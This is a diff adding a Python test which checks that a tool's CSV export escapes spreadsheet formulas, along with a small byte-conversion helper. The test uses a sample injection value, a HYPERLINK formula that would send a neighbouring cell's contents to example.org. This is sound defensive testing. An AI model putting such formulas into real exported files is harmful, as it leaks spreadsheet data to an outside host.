@@ -70,6 +70,20 @@ def test_fetched_and_deleted(tmp_path: Path) -> None:
     assert again["fetched"] == 0
 
 
+def test_an_id_is_no_formula_in_the_list_of_answers(tmp_path: Path) -> None:
+    store = Store(tmp_path / "run" / FOLDER, 100, 1 << 20)
+    formula = '=HYPERLINK("http://example.org/"&A1)'
+    facts = json.dumps({"id": formula, "doubt": 0.5, "at": 1.5, "version": "@3"})
+    store.add(0.5, "a", {"in.x": np.zeros((1, 4), np.float32), "facts": in_bytes(facts)})
+    fetch_samples(Shell(), str(tmp_path), tmp_path / "out")  # type: ignore[arg-type]
+    (row,) = csv.DictReader((tmp_path / "out" / "answers.csv").read_text().splitlines())
+    assert (row["id"], row["version"]) == (f"'{formula}", "'@3")
+
+
+def in_bytes(text: str) -> np.ndarray:
+    return np.frombuffer(text.encode(), np.uint8)
+
+
 def test_a_target_that_keeps_nothing(tmp_path: Path) -> None:
     found = fetch_samples(Shell(), str(tmp_path), tmp_path / "out")  # type: ignore[arg-type]
     assert found["fetched"] == 0
